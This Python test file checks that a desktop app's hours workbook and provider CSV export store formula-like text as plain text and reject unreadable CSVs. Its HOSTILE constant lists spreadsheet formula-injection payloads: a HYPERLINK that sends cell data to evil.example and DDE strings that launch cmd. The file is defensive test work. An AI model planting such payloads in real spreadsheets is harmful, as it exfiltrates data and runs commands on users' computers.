"""Text that looks like a formula stays text in the files Qamqor writes for
spreadsheets (the hours workbook, the provider directory's CSV), read back
here as a spreadsheet would read them; and a provider CSV the csv module
cannot read is refused whole, naming the row."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from desktop.errors import Refused
from desktop.models import Role
from desktop.reports.hours_xlsx import HoursData, HoursEntry, hours_workbook
from desktop.services.referrals import ProviderIn, ReferralService, export_providers, import_providers

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0")


def test_the_hours_workbook_writes_formula_like_names_as_text():
    data = HoursData("Алматы", (
        HoursEntry(dt.date(2026, 11, 3), HOSTILE[0], "KZ-ALA-V-2026-000001", HOSTILE[3], 4.0),
        HoursEntry(dt.date(2026, 11, 4), HOSTILE[1], "=1+1", "Пункт", 2.5),
    ))
    content = hours_workbook(data, "en")
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml for xml in sheets)  # no formula anywhere
    wb = openpyxl.load_workbook(io.BytesIO(content))
    texts = {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for value in (HOSTILE[0], HOSTILE[1], HOSTILE[3], "=1+1"):
        assert texts[value] == "s"


@pytest.fixture
def directory(any_gate, login):
    director = login(Role.DIRECTOR)  # opens the database
    return ReferralService(any_gate.db, director)


def test_the_provider_csv_writes_formula_like_values_as_text_and_reads_them_back(directory, tmp_path):
    directory.save_provider(ProviderIn(HOSTILE[0], HOSTILE[1], "Clinic", "tb_clinic", address=HOSTILE[2],
                                       phone="+7 727 300 10 01", cost=HOSTILE[3]))
    path = tmp_path / "providers.csv"
    export_providers(directory, path)
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))
    header, row = rows[0], dict(zip(rows[0], rows[1]))
    # As a spreadsheet opens it: no cell starts with a formula character.
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])
    assert row["name_kk"] == "'" + HOSTILE[0] and row["phone"] == "'+7 727 300 10 01"
    assert "name_en" in header
    # And back, unchanged: importing the file updates nothing to the apostrophes.
    added, updated, errors = import_providers(directory, path)
    assert (added, updated, errors) == (0, 1, [])
    [provider] = directory.providers()
    assert (provider.name_kk, provider.name_ru, provider.address, provider.phone, provider.cost) == (
        HOSTILE[0], HOSTILE[1], HOSTILE[2], "+7 727 300 10 01", HOSTILE[3])


@pytest.mark.parametrize("broken, row", [
    ('Баспана,Приют,"Night Shelter,shelter,Алматы,,ru,,,10,,1\nКлиника,Клиника,Clinic,tb_clinic,,,,,,,,1\n', 3),
    ("Баспана,Приют,Night Shelter,shelter," + "x" * 140_000 + ",,ru,,,10,,1\n", 3),
])
def test_a_provider_csv_that_cannot_be_read_changes_nothing(directory, tmp_path, broken, row):
    path = tmp_path / "providers.csv"
    path.write_text("name_kk,name_ru,name_en,category,address,phone,languages,cost,hours,capacity,last_verified,"
                    "active\nЗаң,Юрпомощь,Legal Help,legal_aid,,,kk,,,,,1\n" + broken, "utf-8-sig")
    with pytest.raises(Refused) as err:
        import_providers(directory, path)
    assert f"Row {row} of providers.csv cannot be read" in str(err.value)
    assert directory.providers(include_inactive=True) == []
